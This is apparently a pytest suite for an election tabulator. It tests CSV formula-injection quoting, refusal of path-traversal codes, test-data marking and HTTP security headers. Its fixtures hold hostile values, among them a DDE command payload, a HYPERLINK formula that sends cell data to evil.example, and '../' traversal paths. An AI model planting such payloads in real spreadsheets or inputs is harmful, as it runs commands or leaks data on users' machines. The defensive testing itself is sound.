"""Hostile input, issue 12: formulas planted in the CSV files (5), codes that are paths (9), test data that
could pass for real (11), and the HTTP headers that keep browsers and proxies honest (12)."""

from __future__ import annotations

import csv
import gzip
import io
import runpy
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import text

from api import static_publication, store
from api.cli import main
from api.settings import Settings, SettingsError
from api.store import accounts, db
from api.web.api_docs import POLICY as DOCS_POLICY
from tabulator.batch import ReturnBatch
from tabulator.ministry import BLOCK_COLUMNS, FIXED_COLUMNS
from tabulator.registry import CODE_RULE
from tabulator.types import Area, Candidate, Issue
from tests.builders import AREAS, BUREAUX, SAMPLE, build_return
from tests.conftest import table_contents

ROOT = Path(__file__).resolve().parents[2]
ROUND = "/api/v1/elections/mini-primaire/rounds/2"
HOSTILE_PATH = "../../../../outside/escaped"
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Résultats")'
RULE = f"codes are {CODE_RULE}."


def run(database_url: str, *args: object, **environment: str) -> Result:
    return CliRunner().invoke(
        main, [str(arg) for arg in args], env={"TABULATOR_DATABASE_URL": database_url, **environment}
    )


def record(engine, *returns, number=2, candidates=("hamon", "valls")) -> None:
    store.record_returns(engine, SAMPLE.id, number, ReturnBatch.of(returns, candidates), author="clerk")


def bearer(engine, name: str, role: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {accounts.create_token(engine, name, role)[1]}"}


# 5. Formula injection ---------------------------------------------------------------------------------


def test_export_csv_quotes_names_that_would_run_as_formulas(engine, make_app):
    """Names an organiser typed (or pasted) open as text in a spreadsheet; the counts do not change."""
    hostile = replace(
        SAMPLE,
        rounds=(
            SAMPLE.rounds[0],
            replace(
                SAMPLE.rounds[1],
                candidates=(Candidate("hamon", f"{LINK} Hamon", 1), Candidate("valls", "Manuel -2+3", 2)),
            ),
        ),
    )
    areas = tuple(
        replace(area, name=CALC)
        if area.code == "75"
        else replace(area, name="@SUM(1+1)")
        if area.code == "75-01"
        else area
        for area in AREAS
    )
    store.create_election(engine, hostile, areas, BUREAUX)
    record(engine, build_return("75-01-0001", blank=3, null=2, votes={"hamon": 250, "valls": 157}))
    client = make_app().test_client()
    before = table_contents(engine)

    answer = client.get(f"{ROUND}/export.csv?encoding=utf-8")  # read below as UTF-8 text

    header = ";".join([*FIXED_COLUMNS, *BLOCK_COLUMNS, *[""] * len(BLOCK_COLUMNS)])
    row = (
        "75;'=cmd|' /C calc'!A0;1;'@SUM(1+1);000;'@SUM(1+1);0001;;;;412;;3;;0,73;2;;0,49;407;;98,79;"
        '1;;HAMON;"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Résultats"")";250;;61,43;'
        "2;;'-2+3;Manuel;157;;38,57"
    )
    assert (answer.status_code, answer.headers["Content-Type"], answer.get_data(as_text=True)) == (
        200,
        "text/csv; charset=utf-8",
        f"{header}\r\n{row}\r\n",
    )
    parsed = list(csv.reader(io.StringIO(answer.get_data(as_text=True)), delimiter=";"))
    assert [parsed[1][1], parsed[1][3], parsed[1][24], parsed[1][30]] == [
        f"'{CALC}",
        "'@SUM(1+1)",
        f"'{LINK}",
        "'-2+3",
    ]
    # Only the spreadsheet file is guarded: the stored names and the JSON are the organiser's own.
    assert table_contents(engine) == before
    names = [c["name"] for c in client.get(f"{ROUND}/results").get_json()["results"]["candidates"]]
    assert names == [f"{LINK} Hamon", "Manuel -2+3"]
    assert client.get(f"{ROUND}/results/departement/75").get_json()["area"]["name"] == CALC


@pytest.mark.usefixtures("sample_election")
def test_audit_export_quotes_bodies_and_token_names_that_would_run_as_formulas(
    engine, database_url, make_app
):
    client = make_app().test_client()
    clerk = bearer(engine, LINK, "clerk")

    sent = client.put(
        f"{ROUND}/bureaux/75-01-0001/return", data=CALC, headers={**clerk, "Content-Type": "text/plain"}
    )
    assert sent.status_code in (400, 415, 422)

    exported = run(database_url, "audit", "export")

    assert exported.exit_code == 0, exported.output
    # The database keeps what was sent, as sent; only the file's cells are quoted.
    [stored] = accounts.audit_rows(engine)  # read after the export, which seals the audit's chain
    assert (stored["actor"], stored["role"], stored["sent"], stored["status"]) == (
        LINK,
        "clerk",
        CALC,
        sent.status_code,
    )
    header, *lines = csv.reader(io.StringIO(exported.stdout))
    assert {"id", "at", "actor", "remote_addr", "path", "status", "sequence", "sent"} <= set(header)
    assert [dict(zip(header, line, strict=True)) for line in lines] == [
        {
            **{name: "" if stored[name] is None else str(stored[name]) for name in header},
            "actor": f"'{LINK}",
            "sent": f"'{CALC}",
        }
    ]
    assert (lines[0][header.index("status")], lines[0][header.index("id")]) == (
        str(sent.status_code),  # numbers stay as they are
        str(stored["id"]),
    )


# 9. Codes that are paths ------------------------------------------------------------------------------


def hostile_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "elections" / "hostile"
    folder.mkdir(parents=True)
    (folder / "election.json").write_text(
        '{"id": "mini-primaire", "name": "Primaire miniature", "levels": ["national", "region", '
        '"departement", "circonscription"], "rounds": [{"number": 1, "date": "2017-01-22", '
        '"candidates": [{"id": "hamon", "name": "Benoît Hamon", "ballot_order": 1}]}]}',
        encoding="utf-8",
    )
    (folder / "areas.csv").write_text(
        "level,code,name,parent_code\nnational,FR,France,\nregion,11,Île-de-France,FR\n"
        f"departement,75,Paris,11\ncirconscription,{HOSTILE_PATH},Ailleurs,75\n",
        encoding="utf-8",
    )
    (folder / "bureaux.csv").write_text(
        f"code,name,area_code,registered,merged_into\n75-01-0001,Bureau 1,{HOSTILE_PATH},,\n",
        encoding="utf-8",
    )
    (folder / "round-1").mkdir()
    (folder / "round-1" / "returns.csv").write_text(
        "bureau,voters,blank,null,valid,hamon,reported_at\n75-01-0001,10,0,0,10,10,2017-01-22T20:00:00+01:00\n",
        encoding="utf-8",
    )
    return folder


def files_under(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


def test_an_election_folder_with_a_path_for_a_code_is_refused_and_nothing_is_written(
    engine, database_url, tmp_path
):
    folder = hostile_folder(tmp_path)
    static = tmp_path / "static" / "a" / "b"  # deep enough for ../../../../ to land in tmp_path
    before, files = table_contents(engine), files_under(tmp_path)

    loaded = run(database_url, "load-election", folder, TABULATOR_STATIC_FOLDER=str(static))

    assert (loaded.exit_code, loaded.output.splitlines()) == (
        1,
        [
            f"{folder}: refused, nothing was changed. 1 error(s):",
            f"  {folder}: [bad_code] Area circonscription code '{HOSTILE_PATH}' is not valid: it contains "
            f"'..'; {RULE}",
        ],
    )
    assert table_contents(engine) == before
    assert files_under(tmp_path) == files  # no static folder, no `outside/escaped` anywhere


def test_the_store_refuses_a_path_for_a_code_whoever_calls_it(engine):
    before = table_contents(engine)
    areas = (*AREAS, Area("circonscription", HOSTILE_PATH, "Ailleurs", "75"))
    election = replace(SAMPLE, id="mini/primaire")
    with pytest.raises(store.Refused) as refused:
        store.create_election(engine, election, areas, BUREAUX)
    assert refused.value.issues == [
        Issue(
            "bad_code", f"Election code 'mini/primaire' is not valid: it contains '/'; {RULE}", field="code"
        ),
        Issue(
            "bad_code",
            f"Area circonscription code '{HOSTILE_PATH}' is not valid: it contains '..'; {RULE}",
            field="code",
        ),
    ]
    assert table_contents(engine) == before


def test_a_ministry_file_with_a_path_for_a_bureau_is_refused(engine, database_url, tmp_path):
    row = (
        "01;Ain;4;4ème circonscription;001;L'Abergement-Clémenciat;{bureau};598;100;16,72;498;83,28;37;6,19;"
        "7,43;8;1,34;1,61;453;75,75;90,96;1;M;MACRON;Emmanuel;272;45,48;60,04;2;F;LE PEN;Marine;181;30,27;"
        "39,96\r\n"
    )
    header = ";".join([*FIXED_COLUMNS, *BLOCK_COLUMNS, *[""] * 7]) + "\r\n"
    path = tmp_path / "PR17_hostile.txt"
    path.write_bytes((header + row.format(bureau="0001") + row.format(bureau="../../x")).encode("latin-1"))
    before = table_contents(engine)

    imported = run(
        database_url,
        "import-ministry",
        path,
        *("--election", "presidentielle-2017", "--round", "2", "--date", "2017-05-07"),
        *("--type", "presidential", "--name", "Présidentielle 2017"),
    )

    assert imported.exit_code == 1
    assert imported.output.splitlines()[-2:] == [
        f"{path}: refused, nothing was changed. 1 error(s):",
        f"  {path}: [bad_code] Bureau code '01001_../../x' is not valid: it contains '..'; {RULE}",
    ]
    assert table_contents(engine) == before


@pytest.mark.parametrize(
    "tampered",
    [("areas", "75-01", SAMPLE.id), ("elections", SAMPLE.id, HOSTILE_PATH)],
    ids=["area", "election"],
)
@pytest.mark.usefixtures("sample_election")
def test_the_publication_never_writes_outside_its_folder(engine, database_url, tmp_path, tampered):
    """A database filled before codes were checked may hold a path: the publication refuses it whole."""
    table, code, election = tampered
    record(engine, build_return("75-01-0001", votes={"hamon": 250, "valls": 157}))
    with engine.begin() as connection:
        connection.execute(
            text(f"UPDATE {table} SET code = :bad WHERE code = :code"), {"bad": HOSTILE_PATH, "code": code}
        )
    started_on_it = db.make_engine(database_url)  # a process started on that database: nothing cached
    folder = tmp_path / "static" / "a" / "b"
    before, files = table_contents(engine), files_under(tmp_path)

    with pytest.raises(store.Refused) as refused:
        static_publication.publish(started_on_it, election, 2, folder)
    published = run(
        database_url, "publish-static", "--election", election, "--round", "2", "--folder", folder
    )

    shown = f"results/circonscription/{HOSTILE_PATH}" if table == "areas" else f".sequences/{HOSTILE_PATH}/2"
    message = (
        f"Publication refused, nothing written: {shown!r} would not be a file of its own in {folder}. "
        f"A code it is built from is not valid ({RULE[:-1]}): correct it in the database, or reload the "
        "election."
    )
    assert refused.value.issues == [Issue("unsafe_path", message)]
    assert (published.exit_code, published.output.splitlines()) == (
        1,
        [f"{folder}: refused, nothing was changed. 1 error(s):", f"  {folder}: [unsafe_path] {message}"],
    )
    assert (table_contents(engine), files_under(tmp_path)) == (before, files)


# 11. Test data ----------------------------------------------------------------------------------------


@pytest.fixture
def counted(sample_election, make_app, auth_headers):
    """The sample election, one bureau counted; its client and a supervisor's header."""
    record(sample_election, build_return("75-01-0001", blank=3, null=2, votes={"hamon": 250, "valls": 157}))
    return make_app(head_cache_seconds=0).test_client(), auth_headers["supervisor"]


REAL_ROW = (
    "75;Paris;1;1re circonscription de Paris;000;1re circonscription de Paris;0001;;;;412;;3;;0,73;2;;0,49;"
    "407;;98,79;1;;HAMON;Benoît;250;;61,43;2;;VALLS;Manuel;157;;38,57"
)


def even_row(departement: str, circonscription: str, bureau: str) -> str:
    """A bureau of 100 votants split 50/50 in the ministry's layout: `departement` is "13;Bouches-du-Rhône",
    `circonscription` "1;1re circonscription des Bouches-du-Rhône" (no commune level: commune `000`)."""
    name = circonscription.split(";")[1]
    return (
        f"{departement};{circonscription};000;{name};{bureau};;;;100;;0;;0,00;0;;0,00;"
        "100;;100,00;1;;HAMON;Benoît;50;;50,00;2;;VALLS;Manuel;50;;50,00"
    )


def test_a_test_round_export_says_so_in_its_first_line_its_name_and_a_header(counted, engine):
    client, supervisor = counted
    header = ";".join([*FIXED_COLUMNS, *BLOCK_COLUMNS, *[""] * len(BLOCK_COLUMNS)])
    # Enough bureaux for the file to be served gzipped (from 1 KB): the mark is read through the gzip too.
    others = ("75-01-0002", "75-02-0001", "13-01-0001", "13-01-0002", "13-01-0003")
    record(engine, *(build_return(code, votes={"hamon": 50, "valls": 50}) for code in others))
    assert client.patch(ROUND, json={"test": True}, headers=supervisor).get_json()["test"] is True
    before = table_contents(engine)

    # UTF-8, where the mark keeps its dash (tests/api/test_ministry.py reads the Latin-1 default's).
    latest = client.get(f"{ROUND}/export.csv?encoding=utf-8", headers={"Origin": "https://journal.example"})
    zipped = client.get(f"{ROUND}/export.csv?encoding=utf-8", headers={"Accept-Encoding": "gzip"})
    snapshot = client.get(f"{ROUND}/snapshots/1/export.csv?encoding=utf-8")

    rows = [
        *(
            even_row("13;Bouches-du-Rhône", "1;1re circonscription des Bouches-du-Rhône", f"000{n}")
            for n in (1, 2, 3)
        ),
        REAL_ROW,
        even_row("75;Paris", "1;1re circonscription de Paris", "0002"),
        even_row("75;Paris", "2;2e circonscription de Paris", "0001"),
    ]
    body = "".join(f"{line}\r\n" for line in ["# TEST DATA — not real results", header, *rows])
    assert (latest.status_code, latest.get_data(as_text=True)) == (200, body)
    assert (latest.headers["Content-Disposition"], latest.headers["X-Tabulator-Test"]) == (
        'attachment; filename="mini-primaire-tour-2-TEST.csv"',
        "true",
    )
    # A newsroom's script on another origin may read the mark too.
    assert "X-Tabulator-Test" in latest.headers["Access-Control-Expose-Headers"].split(", ")
    assert zipped.headers["Content-Encoding"] == "gzip"
    assert (gzip.decompress(zipped.data).decode(), zipped.headers["X-Tabulator-Test"]) == (body, "true")
    # A snapshot is named by its sequence; the round is a test round, so are its snapshots.
    assert (snapshot.get_data(as_text=True), snapshot.headers["Content-Disposition"]) == (
        "".join(f"{line}\r\n" for line in ["# TEST DATA — not real results", header, REAL_ROW]),
        'attachment; filename="mini-primaire-tour-2-sequence-1-TEST.csv"',
    )
    assert client.get(f"{ROUND}/nist.json").get_json()["IsTest"] is True
    assert table_contents(engine) == before


def test_a_real_round_export_carries_no_test_mark(counted):
    client, _ = counted
    header = ";".join([*FIXED_COLUMNS, *BLOCK_COLUMNS, *[""] * len(BLOCK_COLUMNS)])

    answer = client.get(f"{ROUND}/export.csv?encoding=utf-8")

    assert (answer.get_data(as_text=True), answer.headers["Content-Disposition"]) == (
        f"{header}\r\n{REAL_ROW}\r\n",
        'attachment; filename="mini-primaire-tour-2.csv"',
    )
    assert "X-Tabulator-Test" not in answer.headers


# 12. HTTP hygiene -------------------------------------------------------------------------------------


def test_every_answer_says_nosniff_whichever_layer_gives_it(counted, make_app):
    client, _ = counted
    answers = {
        "document": client.get(f"{ROUND}/results"),
        "preflight": client.options(
            f"{ROUND}/results",
            headers={"Origin": "https://journal.example", "Access-Control-Request-Method": "GET"},
        ),
        "error": client.get("/api/v1/elections/nowhere"),
        "refused write": client.put(f"{ROUND}/bureaux/75-01-0001/return", json={}),
        "openapi": client.get("/api/v1/openapi.json"),
        "docs": client.get("/api/v1/docs"),
        "static file": client.get("/static/page/page.css"),
        "health": client.get("/healthz"),
        "page": client.get("/elections/mini-primaire/rounds/2/"),
    }

    cached = make_app(head_cache_seconds=60)
    dispatched = []
    cached.before_request(lambda: dispatched.append(1))
    cached_client = cached.test_client()
    assert cached_client.get(f"{ROUND}/results").status_code == 200
    answers["fast path"] = cached_client.get(f"{ROUND}/results")
    assert dispatched == [1]  # the second answer was given from memory, before Flask

    assert {
        name: (answer.status_code, answer.headers.getlist("X-Content-Type-Options"))
        for name, answer in answers.items()
    } == {
        "document": (200, ["nosniff"]),
        "preflight": (204, ["nosniff"]),
        "error": (404, ["nosniff"]),
        "refused write": (401, ["nosniff"]),
        "openapi": (200, ["nosniff"]),
        "docs": (200, ["nosniff"]),
        "static file": (200, ["nosniff"]),
        "health": (200, ["nosniff"]),
        "page": (200, ["nosniff"]),
        "fast path": (200, ["nosniff"]),
    }


def test_the_api_docs_have_their_own_policy_and_no_frame(counted):
    client, _ = counted
    docs = client.get("/api/v1/docs")
    assert (docs.status_code, docs.headers.getlist("Content-Security-Policy")) == (200, [DOCS_POLICY])
    # The docs run no script and load nothing but this origin's stylesheet (and its icon).
    assert DOCS_POLICY.startswith("default-src 'none'; style-src 'self'; img-src 'self';")
    assert "frame-ancestors 'none'" in DOCS_POLICY and "script-src" not in DOCS_POLICY
    page = docs.get_data(as_text=True)
    assert ("<script" in page, "https://" in page) == (False, False)
    # Pages keep theirs, which lets the embed be framed by newsrooms' pages of this origin only.
    page_policy = client.get("/elections/mini-primaire/rounds/2/").headers.getlist("Content-Security-Policy")
    assert len(page_policy) == 1 and "frame-ancestors 'self'" in page_policy[0]


@pytest.mark.parametrize(("proxies", "recorded"), [(0, "10.0.0.2"), (1, "203.0.113.7")])
def test_the_audit_believes_x_forwarded_for_only_behind_configured_proxies(
    engine, make_app, auth_headers, proxies, recorded
):
    clerk = auth_headers["clerk"]
    client = make_app(trusted_proxies=proxies).test_client()

    written = client.put(
        f"{ROUND}/bureaux/75-01-0001/return",
        json={"voters": 412, "blank": 3, "null": 2, "valid": 407, "votes": {"hamon": 250, "valls": 157}},
        headers={
            **clerk,
            "X-Forwarded-For": "198.51.100.9, 203.0.113.7",
        },  # a client's own entry, then nginx's
        environ_base={"REMOTE_ADDR": "10.0.0.2"},
    )

    assert written.status_code == 201
    assert [(row["actor"], row["remote_addr"], row["status"]) for row in accounts.audit_rows(engine)] == [
        ("clerk one", recorded, 201)
    ]


def test_trusted_proxies_is_read_from_the_environment_and_never_on_by_default():
    assert Settings.from_env({}).trusted_proxies == 0
    assert Settings.from_env({"TABULATOR_TRUSTED_PROXIES": "1"}).trusted_proxies == 1
    with pytest.raises(SettingsError):
        Settings.from_env({"TABULATOR_TRUSTED_PROXIES": "-1"})


def test_gunicorn_believes_forwarded_headers_from_localhost_unless_told(monkeypatch):
    monkeypatch.delenv("TABULATOR_FORWARDED_ALLOW_IPS", raising=False)
    assert runpy.run_path(str(ROOT / "deploy" / "gunicorn.conf.py"))["forwarded_allow_ips"] == "127.0.0.1"
    monkeypatch.setenv("TABULATOR_FORWARDED_ALLOW_IPS", "172.18.0.0/16")
    assert runpy.run_path(str(ROOT / "deploy" / "gunicorn.conf.py"))["forwarded_allow_ips"] == "172.18.0.0/16"
